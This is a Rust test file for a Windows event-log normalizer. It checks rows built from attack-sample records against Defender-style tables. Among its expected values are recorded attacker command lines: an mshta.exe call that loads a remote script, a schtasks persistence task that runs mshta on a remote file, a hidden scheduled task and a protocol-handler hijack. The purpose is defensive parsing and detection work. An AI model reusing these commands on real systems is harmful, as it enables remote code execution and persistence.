//! Normalized and raw tables against real corpus records.
//!
//! Each test names a corpus file and record. The expected values were read by hand from that
//! record as `evtx_dump -o jsonl` (the evtx crate's own CLI) prints it, and transformed by hand
//! the way Defender defines the column: hex logon ids converted to decimal, hashes lowercased,
//! Sysmon's short hive names spelled out. `assert_row` also checks that every column a test does
//! not name is null, so a field the source lacks cannot leak into a row unnoticed.

use std::collections::BTreeMap;
use std::path::Path;
use taskhunt_events::tables::{self, ColumnType, Row};
use taskhunt_events::testing::evtx_samples;
use taskhunt_events::{Event, ReadOptions, Timestamp, Value, read_file, read_paths};

/// One corpus record and the `ReportId` its rows must carry (`file:record`).
struct Record {
    event: Event,
    report_id: String,
}

/// Record `record` of `file` (relative to `evtx-attack-samples`).
fn record(samples: &Path, file: &str, record: u64) -> Record {
    let path = samples.join(file);
    let batch = read_file(&path);
    assert!(batch.issues.is_empty(), "{file}: {:?}", batch.issues);
    let mut found = batch.events.into_iter().filter(|e| e.record_id == record);
    let event = found.next().unwrap_or_else(|| panic!("{file} has no record {record}"));
    assert!(found.next().is_none(), "{file}: record {record} appears twice");
    Record { event, report_id: format!("{}:{record}", path.display()) }
}

/// Normalizes the record and checks the row against `spec`: cells `Column=value`, separated by
/// `|` or line breaks and trimmed. A Long column's value is a decimal integer; `*` means "not
/// null", for values the caller checks itself (JSON, or text with edge spaces). `ReportId` must
/// be `file:record` and every column the spec does not name must be null. Returns the row.
fn assert_row(rec: &Record, table: &str, spec: &str) -> Row {
    let what = format!("{} record {}", rec.event.source.path.display(), rec.event.record_id);
    let row = tables::normalize(&rec.event).unwrap_or_else(|| panic!("{what}: not normalized"));
    assert_eq!(row.table.name, table, "{what}: table");
    let mut want = BTreeMap::new();
    for cell in spec.split(['\n', '|']).map(str::trim).filter(|c| !c.is_empty()) {
        let (col, value) = cell.split_once('=').unwrap_or_else(|| panic!("cell without `=`: {cell:?}"));
        assert!(row.table.column_index(col).is_some(), "{table} has no column {col}");
        assert!(want.insert(col, value).is_none(), "{col} is named twice");
    }
    for ((col, ty), value) in row.table.columns.iter().zip(&row.values) {
        if *col == "ReportId" {
            assert_eq!(value, &Value::from(rec.report_id.as_str()), "{what}: ReportId");
            continue;
        }
        match want.get(col) {
            None => assert!(value.is_null(), "{what}: {col} should be null, is {value:?}"),
            Some(&"*") => assert!(!value.is_null(), "{what}: {col} should be set"),
            Some(w) if *ty == ColumnType::Long => {
                let n: i64 = w.parse().unwrap_or_else(|_| panic!("{col}={w} is not an integer"));
                match value {
                    Value::Int(v) => assert_eq!(*v, n, "{what}: {col}"),
                    Value::UInt(v) => assert_eq!(i64::try_from(*v).ok(), Some(n), "{what}: {col}"),
                    other => panic!("{what}: {col} should be the integer {n}, is {other:?}"),
                }
            }
            Some(w) => assert_eq!(value, &Value::from(*w), "{what}: {col}"),
        }
    }
    row
}

fn text(row: &Row, column: &str) -> String {
    row.get(column).and_then(Value::as_str).unwrap_or_else(|| panic!("{column} is not text")).to_string()
}

/// AdditionalFields parsed as the JSON object it must be.
fn additional_fields(row: &Row) -> serde_json::Map<String, serde_json::Value> {
    match serde_json::from_str(&text(row, "AdditionalFields")) {
        Ok(serde_json::Value::Object(map)) => map,
        other => panic!("AdditionalFields is not a JSON object: {other:?}"),
    }
}

fn json_str<'a>(map: &'a serde_json::Map<String, serde_json::Value>, key: &str) -> &'a str {
    map.get(key).and_then(serde_json::Value::as_str).unwrap_or_else(|| panic!("no text {key} in {map:?}"))
}

const SYSMON_1_3_11: &str = "Execution/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx";
const MALSECLOGON: &str = "Credential Access/tutto_malseclogon.evtx";
const SHARP_RDP: &str = "Lateral Movement/LM_sysmon_3_12_13_1_SharpRDP.evtx";
const SCHTASK_MALWARE: &str = "AutomatedTestingTools/Malware/rundll32_cmd_schtask.evtx";
const TASK_UPDATE: &str = "Lateral Movement/remote task update 4624 4702 same logonid.evtx";
const PS_LSASS: &str = "Credential Access/Powershell_4104_MiniDumpWriteDump_Lsass.evtx";
/// IEUser's hive on the MSEDGEWIN10 machines, as Defender names it.
const IEUSER_HIVE: &str = r"HKEY_CURRENT_USER\S-1-5-21-3461203602-4096304019-2269080069-1000";

#[test]
fn sysmon_1_becomes_a_process_row() {
    let Some(samples) = evtx_samples("sysmon_1_becomes_a_process_row") else { return };
    // schtasks.exe started by mshta.exe. This Sysmon version logs neither OriginalFileName nor
    // ParentUser, and Sysmon never logs the parent's parent: those columns stay null.
    let rec = record(&samples, SYSMON_1_3_11, 4129);
    let row = assert_row(
        &rec,
        "DeviceProcessEvents",
        r#"
        Timestamp=2019-05-21T15:32:59.7698258Z | DeviceName=IEWIN7 | ActionType=ProcessCreated | SourceEventId=1
        FileName=schtasks.exe | FolderPath=C:\Windows\System32\schtasks.exe
        SHA1=8a7e8b05a122b768ab85466b2a3daf7a358f90f4 | MD5=2003e9b15e1c502b146dad2e383ac1e3
        SHA256=15018d0093befabba8b927743191030d1f8c17bb97fdb48c2fc3eab20e2d4b3d
        ProcessId=3772 | ProcessCommandLine=* | ProcessIntegrityLevel=High
        ProcessCurrentDirectory=C:\Users\IEUser\Desktop\ | ProcessUniqueId={365abb72-1a2b-5ce4-0000-00102f502201}
        ProcessVersionInfoCompanyName=Microsoft Corporation
        ProcessVersionInfoProductName=Microsoft® Windows® Operating System
        ProcessVersionInfoFileDescription=Manages scheduled tasks
        AccountDomain=IEWIN7 | AccountName=IEUser
        LogonId=51094
        InitiatingProcessFileName=mshta.exe | InitiatingProcessFolderPath=C:\Windows\System32\mshta.exe
        InitiatingProcessCommandLine="C:\Windows\System32\mshta.exe" https://hotelesms.com/talsk.txt
        InitiatingProcessId=2432 | InitiatingProcessUniqueId={365abb72-1a29-5ce4-0000-001079f92101}
        "#,
    );
    // LogonId above is 0xc796. The command line ends with a space after /F.
    assert_eq!(
        text(&row, "ProcessCommandLine"),
        r#""C:\Windows\System32\schtasks.exe" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR "mshta.exe https://hotelesms.com/Injection.txt" /F "#
    );
}

#[test]
fn sysmon_1_placeholders_stay_null_and_parent_user_is_the_initiating_account() {
    let Some(samples) = evtx_samples("sysmon_1_placeholders_stay_null_and_parent_user_is_the_initiating_account") else {
        return;
    };
    // An unsigned tool run from a VirtualBox share: FileVersion, Description, Product, Company
    // and OriginalFileName are all `-`. This newer Sysmon logs ParentUser MSEDGEWIN10\IEUser.
    let rec = record(&samples, MALSECLOGON, 619515);
    let row = assert_row(
        &rec,
        "DeviceProcessEvents",
        r"
        Timestamp=2021-12-07T17:33:01.4093121Z | DeviceName=MSEDGEWIN10 | ActionType=ProcessCreated | SourceEventId=1
        FileName=MalSeclogon.exe | FolderPath=\\VBoxSvr\Users\bouss\Downloads\MalSeclogon-master\x64\Debug\MalSeclogon.exe
        SHA1=c6dba1f06d124ebeeb1e541dbf834e066eb9f015 | MD5=731281ba6452100c75ebe26e9a1810e4
        SHA256=0bf5ee2bb8beb0814f17f1d76249565937ea6263242193848fac6c6eb69f6049
        ProcessId=8612 | ProcessCommandLine=MalSeclogon.exe  -p 636 -d 2 | ProcessIntegrityLevel=High
        ProcessCurrentDirectory=Z:\bouss\Downloads\MalSeclogon-master\x64\Debug\
        ProcessUniqueId={747f3d96-9acd-61af-d301-000000000102}
        AccountDomain=MSEDGEWIN10 | AccountName=IEUser | LogonId=343202
        InitiatingProcessFileName=cmd.exe | InitiatingProcessFolderPath=C:\Windows\System32\cmd.exe
        InitiatingProcessCommandLine=* | InitiatingProcessId=9344
        InitiatingProcessUniqueId={747f3d96-8d90-61af-d500-000000000102}
        InitiatingProcessAccountDomain=MSEDGEWIN10 | InitiatingProcessAccountName=IEUser
        ",
    );
    // LogonId 0x53ca2. The parent's command line ends with a space.
    assert_eq!(text(&row, "InitiatingProcessCommandLine"), r#""C:\Windows\system32\cmd.exe" "#);
}

#[test]
fn sysmon_1_unknown_parent_leaves_the_initiating_process_null() {
    let Some(samples) = evtx_samples("sysmon_1_unknown_parent_leaves_the_initiating_process_null") else { return };
    // cmd.exe as SYSTEM whose parent had gone: ParentImage and ParentCommandLine are `?` and
    // ParentProcessGuid is all zeroes. Only the parent's id, 628, is known. LogonId 0x3e7.
    let rec = record(&samples, SHARP_RDP, 311382);
    assert_row(
        &rec,
        "DeviceProcessEvents",
        r"
        Timestamp=2020-07-09T22:05:58.3739611Z | DeviceName=MSEDGEWIN10 | ActionType=ProcessCreated | SourceEventId=1
        FileName=cmd.exe | FolderPath=C:\Windows\System32\cmd.exe
        SHA1=8c5437cd76a89ec983e3b364e219944da3dab464 | MD5=975b45b669930b0cc773eaf2b414206f
        SHA256=3656f37a1c6951ec4496fabb8ee957d3a6e3c276d5a3785476b482c9c0d32ea2
        ProcessId=3096 | ProcessCommandLine=cmd.exe | ProcessIntegrityLevel=System
        ProcessCurrentDirectory=C:\Windows\system32\ | ProcessUniqueId={747f3d96-94c3-5f07-0000-001080b40100}
        ProcessVersionInfoOriginalFileName=Cmd.Exe | ProcessVersionInfoCompanyName=Microsoft Corporation
        ProcessVersionInfoProductName=Microsoft® Windows® Operating System
        ProcessVersionInfoFileDescription=Windows Command Processor
        AccountDomain=NT AUTHORITY | AccountName=SYSTEM | LogonId=999
        InitiatingProcessId=628
        ",
    );
}

#[test]
fn security_4688_process_runs_as_the_target_account() {
    let Some(samples) = evtx_samples("security_4688_process_runs_as_the_target_account") else { return };
    // notepad.exe (NewProcessId 0x1dc) started by WmiPrvSE.exe (ProcessId 0xe8c, running as
    // NETWORK SERVICE WINLAB\WIND10$, logon 0x3e4) in the relayed logon 0x82215a of
    // WINLAB.LOCAL\Administrator. Windows left TargetUserSid as the null SID S-1-0-0: the
    // account has a name but no SID. MandatoryLabel S-1-16-12288; CommandLine is empty.
    let rec = record(&samples, "Privilege Escalation/NTLM2SelfRelay-med0x2e-security_4624_4688.evtx", 21374);
    assert_row(
        &rec,
        "DeviceProcessEvents",
        r"
        Timestamp=2022-05-01T04:42:06.6565422Z | DeviceName=wind10.winlab.local | ActionType=ProcessCreated
        SourceEventId=4688
        FileName=notepad.exe | FolderPath=C:\Windows\System32\notepad.exe | ProcessId=476
        ProcessIntegrityLevel=High
        AccountDomain=WINLAB.LOCAL | AccountName=Administrator | LogonId=8528218
        InitiatingProcessFileName=WmiPrvSE.exe | InitiatingProcessFolderPath=C:\Windows\System32\wbem\WmiPrvSE.exe
        InitiatingProcessId=3724 | InitiatingProcessAccountDomain=WINLAB | InitiatingProcessAccountName=WIND10$
        InitiatingProcessAccountSid=S-1-5-20 | InitiatingProcessLogonId=996
        ",
    );
}

#[test]
fn security_4688_with_empty_target_runs_as_the_subject_and_agrees_with_sysmon() {
    let Some(samples) = evtx_samples("security_4688_with_empty_target_runs_as_the_subject_and_agrees_with_sysmon") else {
        return;
    };
    // The Security log's view of the MalSeclogon.exe start that Sysmon record 619515 shows:
    // Target* is `-`, S-1-0-0 and 0x0, so the process runs as its creator IEUser (logon 0x53ca2).
    // NewProcessId 0x21a4, ProcessId 0x2480.
    let rec = record(&samples, MALSECLOGON, 329914);
    let row = assert_row(
        &rec,
        "DeviceProcessEvents",
        r"
        Timestamp=2021-12-07T17:33:01.3978144Z | DeviceName=MSEDGEWIN10 | ActionType=ProcessCreated | SourceEventId=4688
        FileName=MalSeclogon.exe | ProcessId=8612 | ProcessIntegrityLevel=High
        FolderPath=\Device\Mup\VBoxSvr\Users\bouss\Downloads\MalSeclogon-master\x64\Debug\MalSeclogon.exe
        AccountDomain=MSEDGEWIN10 | AccountName=IEUser | LogonId=343202
        AccountSid=S-1-5-21-3461203602-4096304019-2269080069-1000
        InitiatingProcessFileName=cmd.exe | InitiatingProcessFolderPath=C:\Windows\System32\cmd.exe
        InitiatingProcessId=9344 | InitiatingProcessLogonId=343202
        InitiatingProcessAccountDomain=MSEDGEWIN10 | InitiatingProcessAccountName=IEUser
        InitiatingProcessAccountSid=S-1-5-21-3461203602-4096304019-2269080069-1000
        ",
    );
    // Both logs describe the same process: same ids, file, account and logon session.
    let sysmon = tables::normalize(&record(&samples, MALSECLOGON, 619515).event).unwrap();
    for col in ["ProcessId", "FileName", "InitiatingProcessId", "InitiatingProcessFileName", "AccountName", "LogonId"] {
        assert_eq!(row.get(col), sysmon.get(col), "{col}");
    }

    // Record 329921: lsass.exe started for SYSTEM; a real TargetUserSid names the account.
    // MandatoryLabel S-1-16-16384.
    let row = tables::normalize(&record(&samples, MALSECLOGON, 329921).event).unwrap();
    assert_eq!(text(&row, "AccountDomain"), "WORKGROUP");
    assert_eq!(text(&row, "AccountName"), "MSEDGEWIN10$");
    assert_eq!(text(&row, "AccountSid"), "S-1-5-18");
    assert_eq!(row.get("LogonId"), Some(&Value::Int(999)));
    assert_eq!(text(&row, "ProcessIntegrityLevel"), "System");
    assert_eq!(text(&row, "InitiatingProcessAccountName"), "IEUser");
}

#[test]
fn security_4688_version_1_has_no_label_and_no_parent_name() {
    let Some(samples) = evtx_samples("security_4688_version_1_has_no_label_and_no_parent_name") else { return };
    // A Windows 7 (version 1) event: no MandatoryLabel, no ParentProcessName, no Target*.
    // NewProcessId 0x4f0, ProcessId 0x12c, SubjectLogonId 0x13765.
    let rec = record(&samples, "Privilege Escalation/security_4624_4673_token_manip.evtx", 18196);
    assert_row(
        &rec,
        "DeviceProcessEvents",
        r"
        Timestamp=2019-05-11T17:10:10.3424456Z | DeviceName=IEWIN7 | ActionType=ProcessCreated | SourceEventId=4688
        FileName=python.exe | FolderPath=C:\Python27\python.exe | ProcessId=1264
        AccountDomain=IEWIN7 | AccountName=IEUser | LogonId=79717
        AccountSid=S-1-5-21-3583694148-1414552638-2922671848-1000
        InitiatingProcessId=300 | InitiatingProcessLogonId=79717
        InitiatingProcessAccountDomain=IEWIN7 | InitiatingProcessAccountName=IEUser
        InitiatingProcessAccountSid=S-1-5-21-3583694148-1414552638-2922671848-1000
        ",
    );
}

#[test]
fn sysmon_3_outbound_connection() {
    let Some(samples) = evtx_samples("sysmon_3_outbound_connection") else { return };
    // mshta.exe (Initiated true) from 10.0.2.15:49703 to 108.179.232.58:443 over `tcp`, which
    // Defender spells `Tcp`.
    let rec = record(&samples, SYSMON_1_3_11, 4128);
    assert_row(
        &rec,
        "DeviceNetworkEvents",
        r"
        Timestamp=2019-05-21T15:32:59.3892786Z | DeviceName=IEWIN7 | ActionType=ConnectionSuccess | SourceEventId=3
        RemoteIP=108.179.232.58 | RemotePort=443 | RemoteUrl=gator4243.hostgator.com
        LocalIP=10.0.2.15 | LocalPort=49703 | Protocol=Tcp
        InitiatingProcessFileName=mshta.exe | InitiatingProcessFolderPath=C:\Windows\System32\mshta.exe
        InitiatingProcessId=2432 | InitiatingProcessUniqueId={365abb72-1a29-5ce4-0000-001079f92101}
        InitiatingProcessAccountDomain=IEWIN7 | InitiatingProcessAccountName=IEUser
        ",
    );
}

#[test]
fn sysmon_3_inbound_connection_puts_the_source_on_the_remote_side() {
    let Some(samples) = evtx_samples("sysmon_3_inbound_connection_puts_the_source_on_the_remote_side") else {
        return;
    };
    // RDP accepted by svchost.exe (Initiated false): Sysmon's Source is the client
    // LAPTOP-JU4M3I0E 192.168.56.1:52543, its Destination this machine's port 3389.
    let rec = record(&samples, SHARP_RDP, 311349);
    assert_row(
        &rec,
        "DeviceNetworkEvents",
        r"
        Timestamp=2020-07-09T22:00:11.1813819Z | DeviceName=MSEDGEWIN10 | ActionType=InboundConnectionAccepted
        SourceEventId=3
        RemoteIP=192.168.56.1 | RemotePort=52543 | RemoteUrl=LAPTOP-JU4M3I0E
        LocalIP=192.168.56.101 | LocalPort=3389 | Protocol=Tcp
        InitiatingProcessFileName=svchost.exe | InitiatingProcessFolderPath=C:\Windows\System32\svchost.exe
        InitiatingProcessId=428 | InitiatingProcessUniqueId={747f3d96-85f1-5f07-0000-001074cb0000}
        InitiatingProcessAccountDomain=NT AUTHORITY | InitiatingProcessAccountName=NETWORK SERVICE
        ",
    );

    // SMB to the kernel: Sysmon names no image (`<unknown process>`) and no user, only PID 4.
    let file = "Lateral Movement/ImpersonateUser-via local Pass The Hash Sysmon and Security.evtx";
    assert_row(
        &record(&samples, file, 578501),
        "DeviceNetworkEvents",
        r"
        Timestamp=2021-04-20T20:33:01.9444673Z | DeviceName=MSEDGEWIN10 | ActionType=InboundConnectionAccepted
        SourceEventId=3
        RemoteIP=127.0.0.1 | RemotePort=49925 | RemoteUrl=MSEDGEWIN10
        LocalIP=127.0.0.1 | LocalPort=445 | Protocol=Tcp
        InitiatingProcessId=4 | InitiatingProcessUniqueId={747f3d96-82a8-607f-0000-0010eb030000}
        ",
    );
}

#[test]
fn sysmon_11_becomes_a_file_row() {
    let Some(samples) = evtx_samples("sysmon_11_becomes_a_file_row") else { return };
    // The Task Scheduler service writing the task file that schtasks.exe (record 4129) asked
    // for. This Sysmon version logs no User and no hashes for file creation.
    let rec = record(&samples, SYSMON_1_3_11, 4130);
    assert_row(
        &rec,
        "DeviceFileEvents",
        r"
        Timestamp=2019-05-21T15:32:59.8098834Z | DeviceName=IEWIN7 | ActionType=FileCreated | SourceEventId=11
        FileName=MSOFFICE_ | FolderPath=C:\Windows\System32\Tasks\MSOFFICE_
        InitiatingProcessFileName=svchost.exe | InitiatingProcessFolderPath=C:\Windows\system32\svchost.exe
        InitiatingProcessId=856 | InitiatingProcessUniqueId={365abb72-39cb-5ce3-0000-0010e0ac0000}
        ",
    );
}

/// The cells every registry row of rundll32.exe in SCHTASK_MALWARE shares.
const RUNDLL32: &str = r"
    DeviceName=MSEDGEWIN10 | InitiatingProcessFileName=rundll32.exe
    InitiatingProcessFolderPath=C:\Windows\SysWOW64\rundll32.exe | InitiatingProcessId=3396
    InitiatingProcessUniqueId={747f3d96-51d0-5f93-0000-001036a15b00}";

#[test]
fn sysmon_12_and_13_become_registry_rows_with_long_hive_names() {
    let Some(samples) = evtx_samples("sysmon_12_and_13_become_registry_rows_with_long_hive_names") else { return };
    // 12 CreateKey on HKLM: a key, so no value name and no data.
    let spec = r"
        Timestamp=2020-10-23T21:57:36.3372705Z | ActionType=RegistryKeyCreated | SourceEventId=12
        RegistryKey=HKEY_LOCAL_MACHINE\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Explorer\Desktop\NameSpace";
    assert_row(&record(&samples, SCHTASK_MALWARE, 424050), "DeviceRegistryEvents", &(RUNDLL32.to_string() + spec));

    // 13 SetValue of a DWORD in a user's hive (HKU\<SID>, which Defender writes as
    // HKEY_CURRENT_USER\<SID>): `DWORD (0x00000001)` is the number 1.
    let spec = format!(
        r"
        Timestamp=2020-10-23T21:57:36.3753681Z | ActionType=RegistryValueSet | SourceEventId=13
        RegistryKey={IEUSER_HIVE}\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ZoneMap
        RegistryValueName=ProxyBypass | RegistryValueData=1"
    );
    assert_row(&record(&samples, SCHTASK_MALWARE, 424060), "DeviceRegistryEvents", &(RUNDLL32.to_string() + &spec));

    // 13 SetValue of binary data: Sysmon does not log the bytes, only `Binary Data`.
    let spec = r"
        Timestamp=2020-10-23T21:57:36.4117681Z | ActionType=RegistryValueSet | SourceEventId=13
        RegistryKey=HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Notifications\Data
        RegistryValueName=418A073AA3BC3475 | RegistryValueData=Binary Data";
    assert_row(&record(&samples, SCHTASK_MALWARE, 424077), "DeviceRegistryEvents", &(RUNDLL32.to_string() + spec));
}

#[test]
fn sysmon_13_string_and_qword_values() {
    let Some(samples) = evtx_samples("sysmon_13_string_and_qword_values") else { return };
    // Explorer recording `cmd.exe` typed into Run: value `b` of RunMRU is `cmd.exe\1`.
    let spec = format!(
        r"
        Timestamp=2020-07-09T22:00:45.5905894Z | DeviceName=MSEDGEWIN10 | ActionType=RegistryValueSet
        SourceEventId=13
        RegistryKey={IEUSER_HIVE}\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU
        RegistryValueName=b | RegistryValueData=cmd.exe\1
        InitiatingProcessFileName=Explorer.EXE | InitiatingProcessFolderPath=C:\Windows\Explorer.EXE
        InitiatingProcessId=2356 | InitiatingProcessUniqueId={{747f3d96-86fc-5f07-0000-00101e4b0700}}"
    );
    assert_row(&record(&samples, SHARP_RDP, 311367), "DeviceRegistryEvents", &spec);

    // sdbinst.exe registering a shim database: `QWORD (0x01d4de95-0x1de60760)` is high dword
    // then low dword, 0x01d4de951de60760 = 131975021133694816. Read as a FILETIME that is
    // 2019-03-19 20:48:33.369 UTC, the event's own UtcTime, which confirms the word order.
    let rec = record(&samples, "Persistence/persistence_sysmon_11_13_1_shime_appfix.evtx", 1966371);
    assert_row(
        &rec,
        "DeviceRegistryEvents",
        r"
        Timestamp=2019-03-19T20:48:33.4596112Z | DeviceName=PC01.example.corp | ActionType=RegistryValueSet
        SourceEventId=13
        RegistryKey=HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\AppCompatFlags\Custom\osk.exe
        RegistryValueName={4f02f780-dd6c-40e3-ab21-c1336815b4db}.sdb | RegistryValueData=131975021133694816
        InitiatingProcessFileName=sdbinst.exe | InitiatingProcessFolderPath=C:\Windows\system32\sdbinst.exe
        InitiatingProcessId=2112 | InitiatingProcessUniqueId={365abb72-55a1-5c91-0000-0010ab8c0700}
        ",
    );
}

#[test]
fn sysmon_12_deletions_and_hives_without_a_sid() {
    let Some(samples) = evtx_samples("sysmon_12_deletions_and_hives_without_a_sid") else { return };
    // reg.exe deleting the Run value `Atomic Red Team`: a value, so no data.
    let file = "AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx";
    let row = tables::normalize(&record(&samples, file, 3598).event).unwrap();
    assert_eq!(text(&row, "ActionType"), "RegistryValueDeleted");
    assert_eq!(text(&row, "RegistryKey"), format!(r"{IEUSER_HIVE}\Software\Microsoft\Windows\CurrentVersion\Run"));
    assert_eq!(text(&row, "RegistryValueName"), "Atomic Red Team");
    assert_eq!(row.get("RegistryValueData"), None);
    assert_eq!(text(&row, "InitiatingProcessFileName"), "reg.exe");

    // regedit.exe deleting the whole RunMRU key: the last path element is a key, not a value.
    let file = "Defense Evasion/Sysmon_12_DE_AntiForensics_MRU_DeleteKey.evtx";
    let row = tables::normalize(&record(&samples, file, 308049).event).unwrap();
    assert_eq!(text(&row, "ActionType"), "RegistryKeyDeleted");
    assert_eq!(text(&row, "RegistryKey"), format!(r"{IEUSER_HIVE}\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU"));
    assert_eq!(row.get("RegistryValueName"), None);
    assert_eq!(text(&row, "InitiatingProcessFolderPath"), r"C:\Windows\regedit.exe");

    // HKU\.DEFAULT is no user's SID: it stays under HKEY_USERS.
    let file = "Credential Access/babyshark_mimikatz_powershell.evtx";
    let row = tables::normalize(&record(&samples, file, 9).event).unwrap();
    assert_eq!(text(&row, "RegistryKey"), r"HKEY_USERS\.DEFAULT\Software\Microsoft\SystemCertificates\Root\Certificates");
    // HKCR: the value `(Default)` of ms-browser's open command, set by a WMI event consumer.
    let file = "Lateral Movement/LM_wmi_PoisonHandler_Mr-Un1k0d3r_sysmon_1_13.evtx";
    let row = tables::normalize(&record(&samples, file, 335).event).unwrap();
    assert_eq!(text(&row, "RegistryKey"), r"HKEY_CLASSES_ROOT\ms-browser\shell\open\command");
    assert_eq!(text(&row, "RegistryValueName"), "(Default)");
    assert_eq!(text(&row, "RegistryValueData"), "cmd.exe /c notepad.exe");
}

#[test]
fn sysmon_7_becomes_an_image_load_row() {
    let Some(samples) = evtx_samples("sysmon_7_becomes_an_image_load_row") else { return };
    // svchost.exe loading the planted, unsigned WindowsCoreDeviceInfo.dll.
    let rec = record(&samples, "Defense Evasion/Sysmon 7  Update Session Orchestrator Dll Hijack.evtx", 243511);
    assert_row(
        &rec,
        "DeviceImageLoadEvents",
        r"
        Timestamp=2020-03-21T05:00:17.9805441Z | DeviceName=MSEDGEWIN10 | ActionType=ImageLoaded | SourceEventId=7
        FileName=WindowsCoreDeviceInfo.dll | FolderPath=C:\Windows\System32\WindowsCoreDeviceInfo.dll
        SHA1=4b4f372f74c0048cdd66704bb06bd11a842df6ae | MD5=ba646d4d090c43ef8f15ca7b468ee25c
        SHA256=9db9d7a8afd33e3e1936fc591a3add3fd720e5e7192e3f27cf7382d2d0411647
        InitiatingProcessFileName=svchost.exe | InitiatingProcessFolderPath=C:\Windows\System32\svchost.exe
        InitiatingProcessId=1652 | InitiatingProcessUniqueId={747f3d96-9dbc-5e75-0000-00102c390100}
        ",
    );
}

#[test]
fn security_4624_and_4625_become_logon_rows() {
    let Some(samples) = evtx_samples("security_4624_and_4625_become_logon_rows") else { return };
    // NTLM network logon (type 3) of 3B\a-jbrown from 04246W-WIN10 at 172.16.66.142, logon id
    // 0x21a8c68. No local process: ProcessName `-`, ProcessId 0x0.
    assert_row(
        &record(&samples, TASK_UPDATE, 2171290),
        "DeviceLogonEvents",
        r"
        Timestamp=2020-09-02T11:47:48.5705028Z | DeviceName=01566s-win16-ir.threebeesco.com | ActionType=LogonSuccess
        SourceEventId=4624 | LogonType=Network | Protocol=NTLM
        AccountDomain=3B | AccountName=a-jbrown | AccountSid=S-1-5-21-308926384-506822093-3341789130-1106
        LogonId=35294312 | RemoteDeviceName=04246W-WIN10 | RemoteIP=172.16.66.142 | RemotePort=60726
        ",
    );

    // RDP (type 10) through a tunnel, hence from 127.0.0.1; winlogon.exe (0x4b8) handled it.
    // TargetLogonId 0x14a321.
    assert_row(
        &record(&samples, "Command and Control/DE_RDP_Tunnel_5156.evtx", 227762),
        "DeviceLogonEvents",
        r"
        Timestamp=2019-02-13T18:04:58.3636968Z | DeviceName=PC01.example.corp | ActionType=LogonSuccess
        SourceEventId=4624 | LogonType=RemoteInteractive | Protocol=Negotiate
        AccountDomain=EXAMPLE | AccountName=admin01 | AccountSid=S-1-5-21-1587066498-1489273250-1035260531-1108
        LogonId=1352481 | RemoteDeviceName=PC01 | RemoteIP=127.0.0.1 | RemotePort=49274
        InitiatingProcessFileName=winlogon.exe | InitiatingProcessFolderPath=C:\Windows\System32\winlogon.exe
        InitiatingProcessId=1208
        ",
    );

    // A wrong password typed into chrome.exe's (0x1358) Windows prompt, LogonType 2. The null
    // SID in TargetUserSid means Windows did not resolve the account: no AccountSid.
    // FailureReason joins FailureReason, Status and SubStatus as logged.
    assert_row(
        &record(&samples, "Credential Access/CA_4624_4625_LogonType2_LogonProc_chrome.evtx", 137222),
        "DeviceLogonEvents",
        r"
        Timestamp=2020-09-09T13:18:23.6279525Z | DeviceName=MSEDGEWIN10 | ActionType=LogonFailed | SourceEventId=4625
        LogonType=Interactive | Protocol=Negotiate | AccountDomain=MSEDGEWIN10 | AccountName=IEUser
        FailureReason=%%2313 0xc000006d 0xc000006a | RemoteDeviceName=MSEDGEWIN10
        InitiatingProcessFileName=chrome.exe | InitiatingProcessId=4952
        InitiatingProcessFolderPath=C:\Program Files (x86)\Google\Chrome\Application\chrome.exe
        ",
    );
}

#[test]
fn security_4698_and_4702_become_scheduled_task_device_events() {
    let Some(samples) = evtx_samples("security_4698_and_4702_become_scheduled_task_device_events") else { return };
    // EXAMPLE\Administrator (logon 0x17e2d2) registering the hidden task \CYAlyNSS, which runs
    // tasklist as SYSTEM.
    let row = assert_row(
        &record(&samples, "Execution/temp_scheduled_task_4698_4699.evtx", 566836),
        "DeviceEvents",
        r"
        Timestamp=2019-03-19T00:02:04.3199452Z | DeviceName=WIN-77LTAPHIQ1R.example.corp | SourceEventId=4698
        ActionType=ScheduledTaskCreated | AccountDomain=EXAMPLE | AccountName=Administrator | LogonId=1565394
        AccountSid=S-1-5-21-1587066498-1489273250-1035260531-500 | AdditionalFields=*
        ",
    );
    let fields = additional_fields(&row);
    assert_eq!(fields.len(), 2, "{fields:?}");
    assert_eq!(json_str(&fields, "TaskName"), r"\CYAlyNSS");
    let content = json_str(&fields, "TaskContent");
    // 1525 characters in the dump, from the XML declaration to </Task>.
    assert_eq!(content.chars().count(), 1525);
    assert!(content.starts_with("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\""));
    assert!(content.ends_with("</Exec>\r\n  </Actions>\r\n</Task>"));
    assert!(content.contains("<Command>cmd.exe</Command>"));
    assert!(content.contains(r"<Arguments>/C tasklist &gt; %windir%\Temp\CYAlyNSS.tmp 2&gt;&amp;1</Arguments>"));
    assert!(content.contains("<Hidden>true</Hidden>"));

    // 4702 carries the new definition as TaskContentNew. a-jbrown updated \LMST in the network
    // logon of record 2171290: the same logon id, 0x21a8c68.
    let row = assert_row(
        &record(&samples, TASK_UPDATE, 2171293),
        "DeviceEvents",
        r"
        Timestamp=2020-09-02T11:47:48.9597678Z | DeviceName=01566s-win16-ir.threebeesco.com | SourceEventId=4702
        ActionType=ScheduledTaskUpdated | AccountDomain=3B | AccountName=a-jbrown | LogonId=35294312
        AccountSid=S-1-5-21-308926384-506822093-3341789130-1106 | AdditionalFields=*
        ",
    );
    let fields = additional_fields(&row);
    assert_eq!(json_str(&fields, "TaskName"), r"\LMST");
    let content = json_str(&fields, "TaskContent");
    assert_eq!(content.chars().count(), 1716);
    assert!(content.contains("<Author>a-jbrown</Author>"));
    assert!(content.contains(r"<Arguments>/c echo testing &gt; c:\users\public\out.txt</Arguments>"));
}

#[test]
fn sysmon_22_becomes_a_dns_device_event() {
    let Some(samples) = evtx_samples("sysmon_22_becomes_a_dns_device_event") else { return };
    // svchost.exe asking for `wpad`: status 9003 (no such name), QueryResults `-`, so the
    // result is left out of AdditionalFields rather than written as `-`.
    let row = assert_row(
        &record(&samples, "Privilege Escalation/Sysmon_UACME_64.evtx", 1084),
        "DeviceEvents",
        r"
